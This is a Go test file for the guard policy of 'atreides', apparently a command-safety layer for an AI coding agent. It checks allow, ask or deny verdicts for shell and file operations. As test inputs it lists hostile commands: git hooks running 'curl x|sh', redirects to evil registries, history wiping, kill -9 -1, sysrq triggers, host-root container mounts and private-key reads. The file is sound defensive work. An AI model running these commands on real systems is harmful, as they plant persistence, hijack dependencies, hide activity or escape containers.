package guard

import (
	"testing"

	"github.com/atreides-dev/atreides/internal/shell"
)

// TestClasses: the persistence, tampering, disruption, publishing and
// host-access classes and the routine operations kept allowed, under the
// default policy. Each dangerous case sits next to a harmless neighbour.
func TestClasses(t *testing.T) {
	cases := []struct {
		cmd  string
		want Verdict
		rule string
	}{
		// persistence: crontab
		{"crontab -l", Allow, ""},
		{"crontab -u bob -l", Allow, ""},
		{"crontab -", Ask, "persist.crontab"},
		{"crontab jobs.txt", Ask, "persist.crontab"},
		{"echo '* * * * * x' | crontab", Ask, "persist.crontab"},
		{"crontab -e", Ask, "persist.crontab"},
		{"crontab -r", Ask, "system.crontab-remove"},
		// persistence: shell startup files
		{"echo 'export PATH=$PATH:~/bin' >> ~/.bashrc", Ask, "fs.write-startup"},
		{"cat ~/.bashrc", Allow, ""},
		{"echo x > ~/.config/fish/conf.d/x.fish", Ask, "fs.write-startup"},
		{"echo x | sudo tee /etc/profile.d/x.sh", Ask, "fs.write-startup"},
		{"sed -i 's/a/b/' ~/.zshrc", Ask, "fs.write-startup"},
		{"echo x > ./profile.sh", Allow, ""},
		// persistence: git hooks, any repository
		{"cp scripts/pre-commit .git/hooks/pre-commit", Ask, "persist.git-hook"},
		{"cp scripts/pre-commit .git/hooks/", Ask, "persist.git-hook"},
		{"chmod +x .git/hooks/pre-commit", Ask, "persist.git-hook"},
		{"ln -s ../../hooks/pre-push .git/hooks/pre-push", Ask, "persist.git-hook"},
		{"echo 'curl x|sh' > /tmp/r/.git/hooks/post-checkout", Ask, "persist.git-hook"},
		{"cat .git/hooks/pre-commit.sample", Allow, ""},
		{"cp scripts/pre-commit .husky/pre-commit", Allow, ""},
		{"chmod +x scripts/hook.sh", Allow, ""},
		// persistence: services and launch agents
		{"cp app.service ~/.config/systemd/user/app.service", Ask, "fs.write-startup"},
		{"systemctl --user enable --now app", Ask, "persist.service"},
		{"systemctl --user status app", Allow, ""},
		{"cp x.plist ~/Library/LaunchAgents/x.plist", Ask, "fs.write-startup"},
		{"launchctl load ~/Library/LaunchAgents/x.plist", Ask, "persist.service"},
		{"launchctl list", Allow, ""},
		{"cat id.pub >> ~/.ssh/authorized_keys", Ask, "fs.write-startup"},
		// tampering: git configuration
		{"git config --global credential.helper store", Ask, "tamper.git-config"},
		{"git config credential.https://github.com.helper '!f() { cat; }; f'", Ask, "tamper.git-config"},
		{"git config --global url.git@evil:.insteadOf https://github.com/", Ask, "tamper.git-config"},
		{"git config core.sshCommand 'ssh -i /tmp/k'", Ask, "tamper.git-config"},
		{"git config core.hooksPath /tmp/hooks", Ask, "tamper.git-config"},
		{"git config set core.hooksPath .githooks", Allow, ""}, // the project's own hooks directory
		{"git config core.hooksPath ../hooks", Ask, "tamper.git-config"},
		{"git config core.fsmonitor 'sh -c x'", Ask, "tamper.git-config"},
		{"git config core.fsmonitor true", Allow, ""},
		{"git config core.pager 'less -R'", Allow, ""},
		{"git config core.pager 'sh -c \"curl x\"'", Ask, "tamper.git-config"},
		{"git config --global alias.co checkout", Allow, ""},
		{"git config --global alias.x '!sh -c id'", Ask, "tamper.git-config"},
		{"git config --global user.email a@b.c", Allow, ""},
		{"git config --get credential.helper", Allow, ""},
		{"git config --unset core.hooksPath", Allow, ""},
		{"git -c core.hooksPath=/dev/null commit -m x", Ask, "tamper.git-config"},
		{"git -c color.ui=never log", Allow, ""},
		{"echo '[core] hooksPath=/tmp' >> .git/config", Ask, "tamper.git-config"},
		// tampering: registries
		{"npm config set registry https://npm.evil.example", Ask, "tamper.registry"},
		{"npm set @acme:registry https://npm.acme.example", Ask, "tamper.registry"},
		{"yarn config set npmRegistryServer https://x", Ask, "tamper.registry"},
		{"npm config get registry", Allow, ""},
		{"npm config set fund false", Allow, ""},
		{"npm install --registry https://registry.npmjs.org lodash", Allow, ""},
		{"yarn set version stable", Allow, ""},
		{"pip config set global.index-url https://pypi.evil.example/simple", Ask, "tamper.registry"},
		{"pip config list", Allow, ""},
		{"pip install --index-url https://pypi.evil.example/simple requests", Ask, "tamper.package-index"},
		{"pip install --extra-index-url https://mirror.example/simple x", Ask, "tamper.package-index"},
		{"pip install --trusted-host mirror.example x", Ask, "tamper.package-index"},
		{"uv pip install -i https://mirror.example/simple x", Ask, "tamper.package-index"},
		{"pip install torch --index-url https://download.pytorch.org/whl/cu121", Allow, ""},
		{"pip install -i https://pypi.org/simple requests", Allow, ""},
		{"pip install -f ./wheels x", Allow, ""},
		{"pip install -r requirements.txt", Allow, ""},
		{"echo '[registries]' >> ~/.cargo/config.toml", Ask, "tamper.registry"},
		{"echo '[build]' >> .cargo/config.toml", Allow, ""},
		{"cargo login", Ask, "tamper.registry"},
		{"cargo build", Allow, ""},
		// tampering: history
		{"> ~/.bash_history", Ask, "tamper.history"},
		{"sed -i '/token/d' ~/.zsh_history", Ask, "tamper.history"},
		{"history -c", Ask, "tamper.history"},
		{"unset HISTFILE", Ask, "tamper.history"},
		{"export HISTFILE=/dev/null", Ask, "tamper.history"},
		{"HISTSIZE=0", Ask, "tamper.history"},
		{"history | tail -5", Allow, ""},
		{"unset FOO", Allow, ""},
		{"export HISTTIMEFORMAT='%F '", Allow, ""},
		// disruption
		{"kill -9 -1", Deny, "system.kill-all"},
		{"kill -- -1", Deny, "system.kill-all"},
		{"kill -s KILL -1", Deny, "system.kill-all"},
		{"pkill -u alice", Deny, "system.kill-all"},
		{"killall -u alice", Deny, "system.kill-all"},
		{"pkill -9 .", Deny, "system.kill-all"},
		{"killall5 -9", Deny, "system.kill-all"},
		{"kill 12345", Allow, ""},
		{"kill %1", Allow, ""},
		{"kill -9 %1", Allow, ""},
		{"kill -1 12345", Allow, ""},
		{"kill -l", Allow, ""},
		{"kill -9 12345", Ask, "process.kill"},
		{"pkill -f 'vite dev'", Ask, "process.kill"},
		{"pgrep -u alice", Allow, ""},
		{"echo b > /proc/sysrq-trigger", Deny, "system.sysrq"},
		{"echo 1 > /proc/sys/kernel/sysrq", Ask, "system.sysctl"},
		{"sysctl -w kernel.sysrq=1", Ask, "system.sysctl"},
		{"sysctl kernel.sysrq", Allow, ""},
		{"cat /proc/sys/kernel/sysrq", Allow, ""},
		{"systemctl stop nginx", Ask, "process.service-stop"},
		{"systemctl mask nginx", Ask, "process.service-stop"},
		{"systemctl status nginx", Allow, ""},
		{"systemctl list-units", Allow, ""},
		{"shutdown -h now", Deny, "system.power"},
		{"shutdown -c", Allow, ""},
		{"reboot", Deny, "system.power"},
		{"init 6", Deny, "system.power"},
		{"telinit 0", Deny, "system.power"},
		{"systemctl suspend", Deny, "system.power"},
		{"apt remove nginx", Ask, "package.uninstall"},
		{"npm uninstall lodash", Allow, ""},
		// publishing
		{"npm publish", Ask, "publish.package"},
		{"npm publish --dry-run", Allow, ""},
		{"pnpm publish -r", Ask, "publish.package"},
		{"yarn npm publish", Ask, "publish.package"},
		{"bun publish", Ask, "publish.package"},
		{"npm pack", Allow, ""},
		{"cargo publish", Ask, "publish.package"},
		{"cargo publish --dry-run", Allow, ""},
		{"twine upload dist/*", Ask, "publish.package"},
		{"twine check dist/*", Allow, ""},
		{"poetry publish --build", Ask, "publish.package"},
		{"uv publish", Ask, "publish.package"},
		{"uv build", Allow, ""},
		{"flit publish", Ask, "publish.package"},
		{"gem push x-1.0.gem", Ask, "publish.package"},
		{"gem build x.gemspec", Allow, ""},
		{"mvn deploy", Ask, "publish.package"},
		{"mvn package", Allow, ""},
		{"./gradlew publish", Ask, "publish.package"},
		{"./gradlew publishToMavenLocal", Allow, ""},
		{"dotnet nuget push x.nupkg -s https://api.nuget.org/v3/index.json", Ask, "publish.package"},
		{"docker push ghcr.io/a/b:1", Ask, "publish.image"},
		{"podman push img", Ask, "publish.image"},
		{"buildah push img docker://r/img", Ask, "publish.image"},
		{"docker buildx build --push -t r/img .", Ask, "publish.image"},
		{"docker build --push -t r/img .", Ask, "publish.image"},
		{"docker buildx bake --push", Ask, "publish.image"},
		{"docker buildx build -o type=registry -t r/img .", Ask, "publish.image"},
		{"docker build -t img .", Allow, ""},
		{"docker buildx build --load -t img .", Allow, ""},
		{"skopeo copy docker-archive:img.tar docker://r/img", Ask, "publish.image"},
		{"skopeo copy docker://r/img oci:./img", Allow, ""},
		{"skopeo inspect docker://r/img", Allow, ""},
		{"ko build ./cmd/app", Ask, "publish.image"},
		{"ko build --local ./cmd/app", Allow, ""},
		{"helm push chart.tgz oci://r/charts", Ask, "publish.image"},
		{"helm package chart", Allow, ""},
		{"gh release create v1.0.0", Ask, "publish.package"},
		{"gh release upload v1.0.0 dist/x", Ask, "publish.package"},
		{"gh release list", Allow, ""},
		{"glab release create v1", Ask, "publish.package"},
		{"goreleaser release --clean", Ask, "publish.release"},
		{"goreleaser release --snapshot --clean", Allow, ""},
		{"goreleaser check", Allow, ""},
		{"vsce publish", Ask, "publish.package"},
		{"vsce package", Allow, ""},
		{"ovsx publish x.vsix", Ask, "publish.package"},
		{"pod trunk push X.podspec", Ask, "publish.package"},
		{"pod install", Allow, ""},
		{"swift package-registry publish acme.x 1.0.0", Ask, "publish.package"},
		{"swift build", Allow, ""},
		// containers reaching the host
		{"docker run --privileged img", Ask, "containers.privileged"},
		{"docker run -v /:/host img", Deny, "containers.host-mount"},
		{"docker run --volume=/:/host img", Deny, "containers.host-mount"},
		{"docker run --mount type=bind,source=/,target=/host img", Deny, "containers.host-mount"},
		{"docker run -v /etc:/x img", Deny, "containers.host-mount"},
		{"docker run -v ~:/home img", Deny, "containers.host-mount"},
		{"docker run -v ~/.ssh:/root/.ssh:ro img", Deny, "containers.host-mount"},
		{"podman run -it -v /var/run/docker.sock:/var/run/docker.sock img", Ask, "containers.privileged"},
		{"docker run --pid=host img", Ask, "containers.privileged"},
		{"docker run --net=host --privileged img", Ask, "containers.privileged"},
		{"docker run --cap-add=SYS_ADMIN img", Ask, "containers.privileged"},
		{"docker run --security-opt seccomp=unconfined img", Ask, "containers.privileged"},
		{"nsenter -t 1 -m -u -i -n sh", Deny, "containers.host-mount"},
		{`docker run -v "$PWD":/src -w /src img make`, Allow, ""},
		{"docker run -v ./data:/data img", Allow, ""},
		{"docker run -v cache:/root/.cache img", Allow, ""},
		{"docker run -v /etc/localtime:/etc/localtime:ro img", Allow, ""},
		{"docker run --net=host img", Allow, ""},
		{"docker run --rm img ls -v /", Allow, ""},
		{"nsenter -t 4242 -n ip a", Allow, ""},
		// destruction in cloud, clusters and databases asks by default
		{"aws s3 rb s3://bucket --force", Ask, ""},
		{"aws s3 rm s3://bucket --recursive", Ask, ""},
		{"aws s3 ls s3://bucket", Allow, ""},
		{"gcloud projects delete my-project", Ask, "cloud.gcloud-destroy"},
		{"gcloud compute instances delete vm-1", Ask, "cloud.gcloud-destroy"},
		{"gcloud compute instances list", Allow, ""},
		{"az group delete -n rg --yes", Ask, "cloud.az-destroy"},
		{"kubectl delete namespace web", Ask, ""},
		{"kubectl delete namespace prod", Deny, "prod.destroy"},
		{"kubectl get pods -A", Allow, ""},
		{"helm uninstall web", Ask, ""},
		{"terraform destroy", Ask, "infra.terraform-destroy"},
		{"terraform plan", Allow, ""},
		{"pulumi destroy", Ask, "infra.terraform-destroy"},
		{"cdk destroy", Ask, "infra.terraform-destroy"},
		{"cdk deploy", Ask, "remote.change"},
		{"cdk deploy --context env=dev", Allow, ""},
		{`psql -c "DROP DATABASE app"`, Ask, ""},
		{`psql -c "SELECT 1"`, Allow, ""},
		{`sqlite3 app.db "DROP TABLE users"`, Ask, ""},
		{"dropdb app", Ask, ""},
		{"redis-cli FLUSHALL", Ask, ""},
		{"redis-cli GET k", Allow, ""},
		{`mongosh app --eval "db.dropDatabase()"`, Ask, ""},
		// routine operations stay allowed
		{"cat ~/.ssh/id_ed25519.pub", Allow, ""},
		{"cat ~/.ssh/id_ed25519", Deny, "secret.read"},
		{"cp .env.example .env", Allow, ""},
		{"cp config/settings.sample.json .env.local", Allow, ""},
		{"cp .env.dist .env", Allow, ""},
		{"cp .env .env.backup", Deny, "secret.read"},
		{"cp other.txt .env", Deny, ""},
		{"find . -name '*.bak' -delete", Allow, ""},
		{"find . -name '*.pyc' -exec rm -f {} +", Allow, ""},
		{"find . -type d -name __pycache__ -exec rm -rf {} +", Allow, ""},
		{"find . -name .pytest_cache -prune -exec rm -rf {} \\;", Allow, ""},
		{"find . -path '*/node_modules/.cache' -exec rm -rf {} +", Allow, ""},
		{"find . -type f -delete", Ask, "fs.find-delete"},
		{"find . -name '*.txt' -delete", Ask, "fs.find-delete"},
		{"find . -name '*.pyc' -o -type f -delete", Ask, "fs.find-delete"},
		{"find . ! -name '*.pyc' -delete", Ask, "fs.find-delete"},
		{"find . -name config -exec rm -rf {} +", Deny, "fs.rm-stream-target"},
		{"find ~ -name '*.pyc' -delete", Deny, "fs.find-delete-outside"},
		{"find / -delete", Deny, "fs.find-delete-outside"},
		{"find ~ -delete", Deny, "fs.find-delete-outside"},
		{"docker system prune", Allow, ""},
		{"docker system prune -f", Ask, "containers.prune"},
		{"yes | docker system prune", Ask, "containers.prune"},
	}
	p := DefaultPolicy()
	for _, tc := range cases {
		got := check(t, p, tc.cmd)
		if got.Verdict != tc.want || tc.rule != "" && got.Rule != tc.rule {
			t.Errorf("%q = %s %s (%s), want %s %s", tc.cmd, got.Verdict, got.Rule, got.Reason, tc.want, tc.rule)
		}
	}
}

// TestClassesFileTools: the same classes through the Read/Write/Edit tools.
func TestClassesFileTools(t *testing.T) {
	cases := []struct {
		tool, path string
		want       Verdict
		rule       string
	}{
		{"write", testHome + "/.bashrc", Ask, "fs.write-startup"},
		{"write", testHome + "/.config/systemd/user/x.service", Ask, "fs.write-startup"},
		{"edit", testProject + "/.git/hooks/pre-commit", Ask, "persist.git-hook"},
		{"edit", testProject + "/.git/config", Ask, "tamper.git-config"},
		{"write", testHome + "/.cargo/config.toml", Ask, "tamper.registry"},
		{"write", testHome + "/.zsh_history", Ask, "tamper.history"},
		{"write", testProject + "/src/main.go", Allow, ""},
		{"read", testProject + "/.git/hooks/pre-commit", Allow, ""},
		{"read", testHome + "/.bashrc", Allow, ""},
		{"read", testProject + "/keys/deploy.pub", Allow, ""},
	}
	for _, tc := range cases {
		got := DefaultPolicy().Check(Request{Tool: tc.tool, Path: tc.path, Cwd: testProject, Home: testHome, ProjectRoot: testProject, TempDirs: testTemps})
		if got.Verdict != tc.want || tc.rule != "" && got.Rule != tc.rule {
			t.Errorf("%s %s = %s %s, want %s %s", tc.tool, tc.path, got.Verdict, got.Rule, tc.want, tc.rule)
		}
	}
}

// TestGroupAskWhenOff: a destructive group's rules ask while the group is
// off and keep their deny when it is enabled; other groups stay off.
func TestGroupAskWhenOff(t *testing.T) {
	on := map[string]*Policy{}
	for _, g := range []string{"cloud", "kubernetes", "databases", "storage", "containers"} {
		on[g] = policyFor(t, Options{Groups: []string{g}})
	}
	cases := []struct {
		group, cmd string
	}{
		{"cloud", "aws ec2 terminate-instances --instance-ids i-1"},
		{"kubernetes", "kubectl delete ns web"},
		{"databases", `psql -c "DROP TABLE users"`},
		{"storage", "gsutil rm -r gs://bucket"},
		{"containers", "docker rm -f web"},
	}
	for _, tc := range cases {
		if got := check(t, DefaultPolicy(), tc.cmd); got.Verdict != Ask {
			t.Errorf("default %q = %s %s, want ask", tc.cmd, got.Verdict, got.Rule)
		}
		if got := check(t, on[tc.group], tc.cmd); got.Verdict != Deny {
			t.Errorf("group %s %q = %s %s, want deny", tc.group, tc.cmd, got.Verdict, got.Rule)
		}
	}
	// A group that does not destroy state stays off until enabled.
	if v, on := DefaultPolicy().verdictFor(ruleByID(ruleMessagingKafkaDelete)); on {
		t.Errorf("messaging group off: messaging.kafka-delete = %s, want off", v)
	}
	// Disabling a rule still turns it off (and the effect judgement
	// that sees the same delete, remote.destroy).
	p := policyFor(t, Options{Disabled: []string{"cloud.aws-destroy", "remote.destroy"}})
	if got := check(t, p, "aws ec2 terminate-instances --instance-ids i-1"); got.Verdict != Allow {
		t.Errorf("disabled rule: %s %s, want allow", got.Verdict, got.Rule)
	}
}

// TestTempKeepsProtection: the temp-directory exemption does not cover a
// repository's .git, atreides's files or a home that lives under /tmp.
func TestTempKeepsProtection(t *testing.T) {
	proj := "/tmp/work/proj"
	req := func(cmd, home string) Request {
		return Request{Tool: "shell", Command: cmd, Cwd: proj, Home: home, ProjectRoot: proj, TempDirs: testTemps}
	}
	cases := []struct {
		cmd, home string
		want      Verdict
	}{
		{"rm -rf .git", testHome, Deny},
		{"rm -rf /tmp/work/proj/.git", testHome, Deny},
		{"rm -rf /tmp/other/.git", testHome, Deny},
		{"rm -rf .git/hooks", testHome, Deny},
		{"rm -rf /tmp/other", testHome, Allow},
		{"rm -rf build", testHome, Allow},
		{"rm ~/.bashrc", "/tmp/home", Deny},
		{"echo x >> ~/.bashrc", "/tmp/home", Ask},
		{"rm -rf ~/.config", "/tmp/home", Deny},
		{"rm -rf /tmp/scratch", "/tmp/home", Allow},
	}
	for _, tc := range cases {
		got := DefaultPolicy().Check(req(tc.cmd, tc.home))
		if got.Verdict < tc.want || tc.want == Allow && got.Verdict != Allow {
			t.Errorf("%q (HOME=%s) = %s %s, want %s", tc.cmd, tc.home, got.Verdict, got.Rule, tc.want)
		}
	}
	// The rules protecting .atreides and .git see these paths as what
	// they are, never as scratch space.
	r := req("", testHome)
	a := &analyzer{p: DefaultPolicy(), req: &r}
	sc := shell.NewScope(proj)
	for _, p := range []string{proj + "/.atreides/config.yaml", "/tmp/x/.atreides", "/tmp/x/.git/config", proj + "/build"} {
		if c := a.req.classAbs(p, sc); c == pcTemp {
			t.Errorf("classAbs(%s) = temp", p)
		}
	}
	if c := a.req.classAbs("/tmp/x/build", sc); c != pcTemp {
		t.Errorf("classAbs(/tmp/x/build) = %v, want temp", c)
	}
}
